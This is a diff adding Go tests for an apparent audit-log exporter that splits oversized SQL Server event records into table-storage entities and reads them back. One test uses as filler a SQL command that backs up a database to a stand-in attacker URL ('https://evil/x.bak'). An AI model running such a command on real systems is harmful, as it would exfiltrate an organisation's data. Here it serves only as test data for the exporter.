@@ -178,3 +178,134 @@ func TestJoinPartsErrors(t *testing.T) {
 		})
 	}
 }
+
+// roundTrip decodes the entities BuildRecord made the way QueryEvents
+// reads them back.
+func roundTrip(t *testing.T, ents []Entity) *Row {
+	t.Helper()
+	r, err := DecodeRow(ents[0].JSON)
+	if err != nil || r == nil {
+		t.Fatalf("DecodeRow(row) = %v, %v", r, err)
+	}
+	var chunks []chunk
+	for _, e := range ents[1:] {
+		if c, err := DecodeRow(e.JSON); c != nil || err != nil {
+			t.Fatalf("DecodeRow(continuation %s) = %v, %v; want no row", e.RowKey, c, err)
+		}
+		c, err := decodeChunk(e.JSON)
+		if err != nil {
+			t.Fatal(err)
+		}
+		chunks = append(chunks, c)
+	}
+	r.complete(chunks)
+	return r
+}
+
+// TestBuildRecordSpill: records too large for one entity are stored whole
+// in a row and continuation entities, each within the service's limits as
+// it counts them and as JSON (the emulator's count), whatever the text
+// (escaped characters take 6 bytes of JSON, astral ones 2 UTF-16 units),
+// with continuation keys that sort right after the row's.
+func TestBuildRecordSpill(t *testing.T) {
+	padded := "BACKUP DATABASE [s] TO URL = 'https://evil/x.bak' /*" + strings.Repeat("x", 600_000) + "*/ WITH COPY_ONLY"
+	tests := []struct {
+		name   string
+		stmt   string
+		info   string
+		chunks int // continuation entities, at least
+	}{
+		{"600,000 characters", padded, "", 1},
+		{"escaped characters", strings.Repeat("<\x01&", 300_000), "", 3},
+		{"astral", strings.Repeat("😀", 400_000), "", 2},
+		{"CJK", strings.Repeat("日", 700_000), "", 1},
+		{"both texts", padded, strings.Repeat("<i>", 200_000), 2},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			rec := testRecords("f.xel", time.Unix(1e9, 0), 1)[0]
+			rec.Statement, rec.AdditionalInformation = tt.stmt, tt.info
+			if _, err := BuildEntity("s", "d", "b", time.Unix(1e9, 0), rec); !errors.Is(err, ErrTooLarge) {
+				t.Fatalf("BuildEntity: %v, want ErrTooLarge (the test needs a record over one entity)", err)
+			}
+			ents, degraded := BuildRecord("s", "d", "b", time.Unix(1e9, 0), rec)
+			if degraded != "" || len(ents) < 1+tt.chunks {
+				t.Fatalf("%d entities, degraded %q", len(ents), degraded)
+			}
+			for i, e := range ents {
+				if e.Size > entityBudget || len(e.JSON) > entityBudget {
+					t.Errorf("entity %d: %d bytes as counted, %d of JSON, over %d", i, e.Size, len(e.JSON), entityBudget)
+				}
+				if e.PartitionKey != ents[0].PartitionKey {
+					t.Errorf("entity %d in partition %s", i, e.PartitionKey)
+				}
+				if i > 0 && !strings.HasPrefix(e.RowKey, ents[0].RowKey+"|") {
+					t.Errorf("continuation key %s does not extend the row's %s", e.RowKey, ents[0].RowKey)
+				}
+			}
+			// The next record's row sorts after every continuation.
+			next := *rec
+			next.EventIndex++
+			nextEnts, _ := BuildRecord("s", "d", "b", time.Unix(1e9, 0), &next)
+			for _, e := range ents[1:] {
+				if nextEnts[0].RowKey <= e.RowKey {
+					t.Errorf("next row %s sorts before continuation %s", nextEnts[0].RowKey, e.RowKey)
+				}
+			}
+			r := roundTrip(t, ents)
+			if r.Record.Statement != tt.stmt || r.Record.AdditionalInformation != tt.info || r.Degraded != "" {
+				t.Fatalf("read back %d/%d bytes (want %d/%d), degraded %q", len(r.Record.Statement), len(r.Record.AdditionalInformation), len(tt.stmt), len(tt.info), r.Degraded)
+			}
+			// A missing continuation is noticed, never silently cut.
+			r = roundTrip(t, ents[:len(ents)-1])
+			if r.Degraded == "" || r.Record.Statement == tt.stmt && r.Record.AdditionalInformation == tt.info {
+				t.Fatalf("missing continuation not reported")
+			}
+		})
+	}
+}
+
+// TestBuildRecordCut: when even the spilled row cannot fit (other columns
+// of hundreds of kilobytes), those columns are cut and the row says so;
+// the statement stays whole.
+func TestBuildRecordCut(t *testing.T) {
+	rec := testRecords("f.xel", time.Unix(1e9, 0), 1)[0]
+	rec.Statement = strings.Repeat("s", 100_000)
+	rec.ObjectName = strings.Repeat("<o>", 200_000)
+	rec.HostName = strings.Repeat("h", 600_000)
+	rec.ServerPrincipalSID = make([]byte, 70_000) // over the service's 64 KiB for a binary property
+	ents, degraded := BuildRecord("s", "d", "b", time.Unix(1e9, 0), rec)
+	if !strings.Contains(degraded, "object_name (600000 characters)") || !strings.Contains(degraded, "host_name (600000 characters)") ||
+		!strings.Contains(degraded, "server_principal_sid (70000 bytes)") {
+		t.Fatalf("degraded = %q", degraded)
+	}
+	for i, e := range ents {
+		if e.Size > entityBudget || len(e.JSON) > entityBudget {
+			t.Errorf("entity %d over the budget", i)
+		}
+	}
+	r := roundTrip(t, ents)
+	if r.Record.Statement != rec.Statement || len(r.Record.HostName) != degradedCut || r.Degraded != degraded {
+		t.Fatalf("statement %d bytes, host_name %d, degraded %q", len(r.Record.Statement), len(r.Record.HostName), r.Degraded)
+	}
+}
+
+// TestBuildRecordElided: what the reader dropped from the middle of a
+// statement is described in the row and read back.
+func TestBuildRecordElided(t *testing.T) {
+	rec := testRecords("f.xel", time.Unix(1e9, 0), 1)[0]
+	rec.Statement = "日本" + strings.Repeat("x", 40_000) + " WITH COPY_ONLY"
+	rec.StatementTruncated = true
+	rec.Elided = audit.Elision{At: len("日本") + 20_000, Dropped: 9 << 20, Units: 10 << 20, SHA256: [32]byte{1, 2, 3}}
+	ents, _ := BuildRecord("s", "d", "b", time.Unix(1e9, 0), rec)
+	var m map[string]any
+	if err := json.Unmarshal(ents[0].JSON, &m); err != nil {
+		t.Fatal(err)
+	}
+	if m["statement_elided_at"] != "20002" || m["statement_original_length"] != "10485760" {
+		t.Errorf("elided at %v, original length %v", m["statement_elided_at"], m["statement_original_length"])
+	}
+	if r := roundTrip(t, ents); r.Record.Elided != rec.Elided || !r.Record.StatementTruncated {
+		t.Errorf("read back %+v, want %+v", r.Record.Elided, rec.Elided)
+	}
+}
